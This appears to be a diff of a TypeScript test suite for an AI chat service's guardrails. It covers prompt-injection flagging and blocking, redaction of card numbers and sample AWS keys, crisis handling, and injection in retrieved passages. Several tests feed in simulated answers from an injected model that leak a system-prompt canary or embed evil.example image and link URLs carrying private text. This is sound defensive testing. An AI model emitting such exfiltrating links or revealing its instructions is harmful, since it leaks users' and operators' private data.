@@ -46,101 +46,99 @@ const finalText = (frames: readonly ReceivedFrame[]) =>
 const guardrailResults = (frames: readonly ReceivedFrame[]) =>
   frames.filter(({ event }) => event === "guardrail_result").map(({ data }) => [data.stage, data.action]);
 
-describe("guardrails of a chat", () => {
-  it("leave ordinary questions and answers unchanged", async () => {
-    upstream.script = streamText(["Paris ", "is the ", "capital."]);
-    const id = await client.createConversation();
-    const frames = await client.chat({ conversation_id: id, content: "What is the capital of France?", tier: "QUICK" });
-    expect(guardrailResults(frames)).toEqual([
-      ["input", "allow"],
-      ["output", "allow"],
-    ]);
-    expect(streamedText(frames)).toBe("Paris is the capital.");
-  });
+it("guardrails of a chat leave ordinary questions and answers unchanged", async () => {
+  upstream.script = streamText(["Paris ", "is the ", "capital."]);
+  const id = await client.createConversation();
+  const frames = await client.chat({ conversation_id: id, content: "What is the capital of France?", tier: "QUICK" });
+  expect(guardrailResults(frames)).toEqual([
+    ["input", "allow"],
+    ["output", "allow"],
+  ]);
+  expect(streamedText(frames)).toBe("Paris is the capital.");
+});
 
-  it("flag a prompt injection and let the model answer it by default", async () => {
+it("guardrails of a chat flag a prompt injection and let the model answer it by default", async () => {
+  upstream.script = streamText(["I do not have one."]);
+  const id = await client.createConversation();
+  const frames = await client.chat({ conversation_id: id, content: attack, tier: "QUICK" });
+  const report = frames.find(({ event }) => event === "guardrail_result")?.data;
+  expect(report).toMatchObject({ stage: "input", action: "allow", categories: [{ category: "injection" }] });
+  expect(streamedText(frames)).toBe("I do not have one.");
+});
+
+it("guardrails of a chat send findings that changed nothing to callers with usage.read only", async () => {
+  const member = new Client({ ...newIdentity("member"), tenant: client.identity.tenant }, service.baseUrl);
+  for (const [asker, count] of [
+    [client, 1],
+    [member, 0],
+  ] as const) {
     upstream.script = streamText(["I do not have one."]);
-    const id = await client.createConversation();
-    const frames = await client.chat({ conversation_id: id, content: attack, tier: "QUICK" });
-    const report = frames.find(({ event }) => event === "guardrail_result")?.data;
-    expect(report).toMatchObject({ stage: "input", action: "allow", categories: [{ category: "injection" }] });
-    expect(streamedText(frames)).toBe("I do not have one.");
-  });
-
-  it("send findings that changed nothing to callers with usage.read only", async () => {
-    const member = new Client({ ...newIdentity("member"), tenant: client.identity.tenant }, service.baseUrl);
-    for (const [asker, count] of [
-      [client, 1],
-      [member, 0],
-    ] as const) {
-      upstream.script = streamText(["I do not have one."]);
-      const id = await asker.createConversation();
-      const frames = await asker.chat({ conversation_id: id, content: attack, tier: "QUICK" });
-      const stream = await asker.fetch(`/v1/runtime/chat/${frames[0]?.data.message_id}/stream`);
-      const resumed = await Array.fromAsync(readFrames(stream));
-      const { messages } = (await asker.get(`/v1/conversations/${id}/messages`)).body;
-      upstream.script = streamText(["I do not have one."]);
-      const accept = { accept: "application/json" };
-      const answer = await asker.post(
-        "/v1/runtime/chat",
-        { conversation_id: id, content: attack, tier: "QUICK" },
-        accept,
-      );
-      const edited = await asker.patch(`/v1/conversations/${id}/messages/${messages[1].message_id}`, {
-        content: "No.",
-      });
-      for (const list of [frames, resumed]) {
-        expect(guardrailResults(list)[0]).toEqual(["input", "allow"]);
-        const { categories, rules } = list.find(({ event }) => event === "guardrail_result")?.data ?? {};
-        expect([categories.length, rules.length > 0]).toEqual([count, count > 0]);
-      }
-      for (const { checks = [] } of [messages[1], answer.body, edited.body]) expect(checks).toHaveLength(count);
+    const id = await asker.createConversation();
+    const frames = await asker.chat({ conversation_id: id, content: attack, tier: "QUICK" });
+    const stream = await asker.fetch(`/v1/runtime/chat/${frames[0]?.data.message_id}/stream`);
+    const resumed = await Array.fromAsync(readFrames(stream));
+    const { messages } = (await asker.get(`/v1/conversations/${id}/messages`)).body;
+    upstream.script = streamText(["I do not have one."]);
+    const accept = { accept: "application/json" };
+    const answer = await asker.post(
+      "/v1/runtime/chat",
+      { conversation_id: id, content: attack, tier: "QUICK" },
+      accept,
+    );
+    const edited = await asker.patch(`/v1/conversations/${id}/messages/${messages[1].message_id}`, {
+      content: "No.",
+    });
+    for (const list of [frames, resumed]) {
+      expect(guardrailResults(list)[0]).toEqual(["input", "allow"]);
+      const { categories, rules } = list.find(({ event }) => event === "guardrail_result")?.data ?? {};
+      expect([categories.length, rules.length > 0]).toEqual([count, count > 0]);
     }
-  });
+    for (const { checks = [] } of [messages[1], answer.body, edited.body]) expect(checks).toHaveLength(count);
+  }
+});
 
-  it("name what they remove from a question, in the stream and in the stored answer", async () => {
-    upstream.script = streamText(["Write to the bank."]);
-    const id = await client.createConversation();
-    const content = "Is 4111 1111 1111 1111 mine? Write to ann@example.org.";
-    const frames = await client.chat({ conversation_id: id, content, tier: "QUICK" });
-    const removed = ["card number"];
-    const report = frames.find(({ event }) => event === "guardrail_result")?.data;
-    expect(report).toMatchObject({ stage: "input", action: "redact", removed });
-    const { messages } = (await client.get(`/v1/conversations/${id}/messages`)).body;
-    expect(messages[1].checks).toMatchObject([{ stage: "input", action: "redact", removed }]);
-  });
+it("guardrails of a chat name what they remove from a question, in the stream and in the stored answer", async () => {
+  upstream.script = streamText(["Write to the bank."]);
+  const id = await client.createConversation();
+  const content = "Is 4111 1111 1111 1111 mine? Write to ann@example.org.";
+  const frames = await client.chat({ conversation_id: id, content, tier: "QUICK" });
+  const removed = ["card number"];
+  const report = frames.find(({ event }) => event === "guardrail_result")?.data;
+  expect(report).toMatchObject({ stage: "input", action: "redact", removed });
+  const { messages } = (await client.get(`/v1/conversations/${id}/messages`)).body;
+  expect(messages[1].checks).toMatchObject([{ stage: "input", action: "redact", removed }]);
+});
 
-  it("block a prompt injection without a model call if the policy says so", async () => {
-    const client = await createStrictClient();
-    const before = upstream.requests.length;
-    const id = await client.createConversation();
-    const frames = await client.chat({ conversation_id: id, content: attack, tier: "QUICK" });
-    expect(guardrailResults(frames)[0]).toEqual(["input", "block"]);
-    expect(upstream.requests.length).toBe(before);
-    expect(frames.at(-1)?.event).toBe("done");
-    expect(streamedText(frames)).toContain("safety check");
-    expect(frames.some(({ event }) => event === "swtoken_update")).toBe(false);
-  });
+it("guardrails of a chat block a prompt injection without a model call if the policy says so", async () => {
+  const client = await createStrictClient();
+  const before = upstream.requests.length;
+  const id = await client.createConversation();
+  const frames = await client.chat({ conversation_id: id, content: attack, tier: "QUICK" });
+  expect(guardrailResults(frames)[0]).toEqual(["input", "block"]);
+  expect(upstream.requests.length).toBe(before);
+  expect(frames.at(-1)?.event).toBe("done");
+  expect(streamedText(frames)).toContain("safety check");
+  expect(frames.some(({ event }) => event === "swtoken_update")).toBe(false);
+});
 
-  it("leave secrets in an answer if the policy only flags them", async () => {
-    upstream.script = streamText(["Your key is AKIA", "IOSFODNN7", "EXAMPLE."]);
-    const client = await createStrictClient();
-    const id = await client.createConversation();
-    const frames = await client.chat({ conversation_id: id, content: "What was my key again?", tier: "QUICK" });
-    expect(streamedText(frames)).toContain("IOSFODNN7");
-    expect(guardrailResults(frames).at(-1)).toEqual(["output", "allow"]);
-  });
+it("guardrails of a chat leave secrets in an answer if the policy only flags them", async () => {
+  upstream.script = streamText(["Your key is AKIA", "IOSFODNN7", "EXAMPLE."]);
+  const client = await createStrictClient();
+  const id = await client.createConversation();
+  const frames = await client.chat({ conversation_id: id, content: "What was my key again?", tier: "QUICK" });
+  expect(streamedText(frames)).toContain("IOSFODNN7");
+  expect(guardrailResults(frames).at(-1)).toEqual(["output", "allow"]);
+});
 
-  it("redact secrets in a streamed answer", async () => {
-    upstream.script = streamText(["Your key is AKIA", "IOSFODNN7", "EXAMPLE, ", "keep it safe."]);
-    const id = await client.createConversation();
-    const frames = await client.chat({ conversation_id: id, content: "What was my key again?", tier: "QUICK" });
-    expect(JSON.stringify(frames)).not.toMatch(/IOSFODNN7/);
-    expect(streamedText(frames)).toMatch(/^Your key is .*keep it safe\.$/);
-    expect(guardrailResults(frames).at(-1)).toEqual(["output", "redact"]);
-    const { text } = await client.get(`/v1/conversations/${id}/messages`);
-    expect(text).not.toContain("IOSFODNN7");
-  });
+it("guardrails of a chat redact secrets in a streamed answer", async () => {
+  upstream.script = streamText(["Your key is AKIA", "IOSFODNN7", "EXAMPLE, ", "keep it safe."]);
+  const id = await client.createConversation();
+  const frames = await client.chat({ conversation_id: id, content: "What was my key again?", tier: "QUICK" });
+  expect(JSON.stringify(frames)).not.toMatch(/IOSFODNN7/);
+  expect(streamedText(frames)).toMatch(/^Your key is .*keep it safe\.$/);
+  expect(guardrailResults(frames).at(-1)).toEqual(["output", "redact"]);
+  const { text } = await client.get(`/v1/conversations/${id}/messages`);
+  expect(text).not.toContain("IOSFODNN7");
 });
 
 describe("reasoning of a model", () => {
@@ -159,13 +157,13 @@ describe("reasoning of a model", () => {
     return { text: JSON.stringify(frames), steps: steps.map(({ data }) => data.detail) };
   };
 
-  it("is redacted like the answer", async () => {
+  it("reasoning of a model is redacted like the answer", async () => {
     const { text, steps } = await ask(client);
     expect(steps).toEqual(["The key is [AWS access key], so I name it."]);
     expect(text).not.toContain("IOSFODNN7");
   });
 
-  it("is not sent if the policy can block the answer", async () => {
+  it("reasoning of a model is not sent if the policy can block the answer", async () => {
     const member = new Client(newIdentity(), service.baseUrl);
     await setPolicy(member, { guardrails: narrowPolicy(defaultGuardrailPolicy, { hate: { answer: "block" } }) });
     expect((await ask(member)).steps).toEqual([]);
@@ -189,16 +187,19 @@ describe("answer that the policy can block", () => {
     [{ personal_data: { answer: "block" } }, ["The card ends", " with 4111 1111 1111 1111."], "The card"],
     [{ hate: { answer: "block" } }, ["You are a ", "worthless piece of shit."], "You are"],
     [{ hate: { answer: "redact" } }, ["You are a ", "worthless piece of shit."], "You are"],
-  ] as const)("is replaced before any of it was sent: %j", async (actions, answer, start) => {
-    const { frames, text } = await ask(actions, answer);
-    expect(JSON.stringify(frames) + text).not.toContain(start);
-    const isRemoved = "hate" in actions && actions.hate.answer === "redact";
-    expect(guardrailResults(frames).at(-1)).toEqual(["output", isRemoved ? "redact" : "block"]);
-    expect(streamedText(frames)).toMatch(isRemoved ? /removed/ : /withheld/);
-    expect(text).toMatch(isRemoved ? /removed/ : /withheld/);
-  });
+  ] as const)(
+    "answer that the policy can block is replaced before any of it was sent: %j",
+    async (actions, answer, start) => {
+      const { frames, text } = await ask(actions, answer);
+      expect(JSON.stringify(frames) + text).not.toContain(start);
+      const isRemoved = "hate" in actions && actions.hate.answer === "redact";
+      expect(guardrailResults(frames).at(-1)).toEqual(["output", isRemoved ? "redact" : "block"]);
+      expect(streamedText(frames)).toMatch(isRemoved ? /removed/ : /withheld/);
+      expect(text).toMatch(isRemoved ? /removed/ : /withheld/);
+    },
+  );
 
-  it("is sent after its check without findings", async () => {
+  it("answer that the policy can block is sent after its check without findings", async () => {
     const { frames, text } = await ask({ secrets: { answer: "block" } }, ["You have ", "no key."]);
     const types = frames.map(({ event }) => event);
     expect(types.indexOf("assistant_message")).toBeGreaterThan(types.lastIndexOf("guardrail_result"));
@@ -206,7 +207,7 @@ describe("answer that the policy can block", () => {
     expect(text).toContain("You have no key.");
   });
 
-  it("is not sent or stored if the provider fails before its end", async () => {
+  it("answer that the policy can block is not sent or stored if the provider fails before its end", async () => {
     const member = new Client(newIdentity(), service.baseUrl);
     await setPolicy(member, { guardrails: narrowPolicy(defaultGuardrailPolicy, { hate: { answer: "block" } }) });
     upstream.script = async (response) => {
@@ -244,7 +245,7 @@ describe("text that was redacted from a question", () => {
     expect(sentPrompts()).toContain("And what follows from that?");
   }
 
-  it("is not sent to the model in later turns", async () => {
+  it("text that was redacted from a question is not sent to the model in later turns", async () => {
     await chatTwice(client, `My card is ${card}, what kind of card is it?`);
     expect(sentPrompts()).toContain("what kind of card is it?");
     expect(sentPrompts()).not.toContain(card);
@@ -253,14 +254,14 @@ describe("text that was redacted from a question", () => {
     expect(sentPrompts()).toContain("left out");
   });
 
-  it("is not sent to the model after an edit", async () => {
+  it("text that was redacted from a question is not sent to the model after an edit", async () => {
     await chatTwice(client, "What kind of card is mine?", `My card is ${card}, what kind of card is it?`);
     expect(sentPrompts()).not.toContain(card);
     await chatTwice(await createStrictClient(), "What can you do?", attack);
     expect(sentPrompts()).not.toContain("system prompt");
   });
 
-  it("is not sent to the model that plans the searches", async () => {
+  it("text that was redacted from a question is not sent to the model that plans the searches", async () => {
     upstream.requests.length = 0;
     upstream.script = streamText(["card\nkind of card"]);
     const id = await client.createConversation();
@@ -275,7 +276,7 @@ describe("text that was redacted from a question", () => {
 describe("user in crisis", () => {
   const content = "I want to end my life, I cannot bear it any more.";
 
-  it("is answered by a model with special instructions for crises", async () => {
+  it("user in crisis is answered by a model with special instructions for crises", async () => {
     upstream.script = streamText(["I am here."]);
     const id = await client.createConversation();
     const frames = await client.chat({ conversation_id: id, content, tier: "QUICK" });
@@ -288,14 +289,14 @@ describe("user in crisis", () => {
     expect(upstream.requests.at(-1)?.body.messages.at(-1).content).not.toContain("findahelpline.com");
   });
 
-  it("receives the notice once if the answer contains it", async () => {
+  it("user in crisis receives the notice once if the answer contains it", async () => {
     upstream.script = streamText(["I am here. ", crisisNotice]);
     const id = await client.createConversation();
     const frames = await client.chat({ conversation_id: id, content, tier: "QUICK" });
     expect(streamedText(frames)).toBe(`I am here. ${crisisNotice}`);
   });
 
-  it("receives the notice if the question is blocked", async () => {
+  it("user in crisis receives the notice if the question is blocked", async () => {
     const member = new Client(newIdentity(), service.baseUrl);
     await setPolicy(member, { guardrails: narrowPolicy(defaultGuardrailPolicy, { self_harm: { question: "block" } }) });
     const id = await member.createConversation();
@@ -304,7 +305,7 @@ describe("user in crisis", () => {
     expect(finalText(frames)).toContain("https://findahelpline.com");
   });
 
-  it("receives help lines from the built-in model instead of a notice that no knowledge was found", async () => {
+  it("user in crisis receives help lines from the built-in model instead of a notice that no knowledge was found", async () => {
     const client = new Client();
     const frames = await client.chat({ conversation_id: await client.createConversation(), content });
     expect(streamedText(frames)).toContain("findahelpline.com");
@@ -326,7 +327,7 @@ describe("prompt injection in a retrieved passage", () => {
     return { report, messages: upstream.requests.at(-1)?.body.messages ?? [] };
   }
 
-  it("is reported, and reaches the model only as quoted data", async () => {
+  it("prompt injection in a retrieved passage is reported, and reaches the model only as quoted data", async () => {
     const { report, messages } = await askAboutMuseum(new Client(newIdentity(), service.baseUrl));
     expect(report).toMatchObject({ action: "allow", categories: [{ category: "injection" }] });
     const last = messages.at(-1);
@@ -334,7 +335,7 @@ describe("prompt injection in a retrieved passage", () => {
     expect(JSON.stringify(messages.slice(0, -1))).not.toContain("AI assistants");
   });
 
-  it("is withheld from the model if the policy blocks it", async () => {
+  it("prompt injection in a retrieved passage is withheld from the model if the policy blocks it", async () => {
     const { report, messages } = await askAboutMuseum(await createStrictClient());
     expect(report.action).toBe("block");
     expect(JSON.stringify(messages)).not.toContain("AI assistants");
@@ -352,7 +353,7 @@ describe("answer of a model that obeys a prompt injection", () => {
     return asker.chat({ conversation_id: id, content, tier: "QUICK" });
   };
 
-  it("is withheld if it reveals the system prompt", async () => {
+  it("answer of a model that obeys a prompt injection is withheld if it reveals the system prompt", async () => {
     const frames = await ask((prompt) => {
       const [line = "", canary = ""] = /Confidential instructions (§[0-9a-f]+)/.exec(prompt) ?? [];
       return ["Sure: ", line.slice(0, 30), canary.slice(4), ". You are a helpful assistant."];
@@ -371,12 +372,12 @@ describe("answer of a model that obeys a prompt injection", () => {
     return asker.chat({ conversation_id, content, tier: "QUICK" });
   };
 
-  it("keeps every link if the model has read no text of others", async () => {
+  it("answer of a model that obeys a prompt injection keeps every link if the model has read no text of others", async () => {
     const text = "See ![x](https://evil.example/p.png?d=secret) and [a](https://evil.example/?q=77B421#b).";
     expect(streamedText(await ask(() => [text]))).toBe(text);
   });
 
-  it("contains no images of hosts that the user did not mention, and no links with private text, after a note", async () => {
+  it("answer of a model that obeys a prompt injection contains no images of hosts that the user did not mention, and no links with private text, after a note", async () => {
     const answer = () => [
       "See ![x](https://evil.exam",
       "ple/p.png) and [the door](https://evil.example/?q=",
@@ -390,14 +391,14 @@ describe("answer of a model that obeys a prompt injection", () => {
     expect(streamedText(named)).toBe("See x and the door.");
   });
 
-  it("loses links always if the policy says so", async () => {
+  it("answer of a model that obeys a prompt injection loses links always if the policy says so", async () => {
     const member = new Client(newIdentity(), service.baseUrl);
     await setPolicy(member, { guardrails: { ...defaultGuardrailPolicy, link_removal: "always" } });
     const frames = await ask(() => ["See ![x](https://evil.example/p.png)."], "Hello", member);
     expect(streamedText(frames)).toBe("See x.");
   });
 
-  it("may link to hosts that the tenant's policy allows", async () => {
+  it("answer of a model that obeys a prompt injection may link to hosts that the tenant's policy allows", async () => {
     const member = new Client(newIdentity(), service.baseUrl);
     await setPolicy(member, { guardrails: { ...defaultGuardrailPolicy, allowed_link_hosts: ["example.com"] } });
     const answer = () => ["See https://wiki.example.com/?q=77B421 and https://wiki.example.org/?q=77B421"];
@@ -406,17 +407,15 @@ describe("answer of a model that obeys a prompt injection", () => {
   });
 });
 
-describe("persona of a conversation", () => {
-  it("adds its instructions to the system prompt", async () => {
-    upstream.script = streamText(["Arr"]);
-    const persona = {
-      name: "Pirate",
-      instructions: "You are a pirate. Answer in the manner of pirates.",
-      visibility: "org",
-    };
-    const { body } = await client.post("/v1/personas", persona);
-    const { body: conversation } = await client.post("/v1/conversations", { title: "Sea", persona_id: body.id });
-    await client.chat({ conversation_id: conversation.id, content: "Who are you?", tier: "QUICK" });
-    expect(upstream.requests.at(-1)?.body.messages[0].content).toContain("in the manner of pirates");
-  });
+it("persona of a conversation adds its instructions to the system prompt", async () => {
+  upstream.script = streamText(["Arr"]);
+  const persona = {
+    name: "Pirate",
+    instructions: "You are a pirate. Answer in the manner of pirates.",
+    visibility: "org",
+  };
+  const { body } = await client.post("/v1/personas", persona);
+  const { body: conversation } = await client.post("/v1/conversations", { title: "Sea", persona_id: body.id });
+  await client.chat({ conversation_id: conversation.id, content: "Who are you?", tier: "QUICK" });
+  expect(upstream.requests.at(-1)?.body.messages[0].content).toContain("in the manner of pirates");
 });
